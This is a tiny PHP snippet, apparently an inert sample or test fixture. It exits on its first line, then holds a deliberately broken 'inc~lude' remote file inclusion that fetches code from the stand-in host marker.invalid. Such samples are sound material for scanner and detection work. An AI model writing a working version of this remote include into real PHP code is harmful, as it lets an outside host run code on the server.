<?php exit; ?>
<?php inc~lude('http://marker.invalid/m.txt');
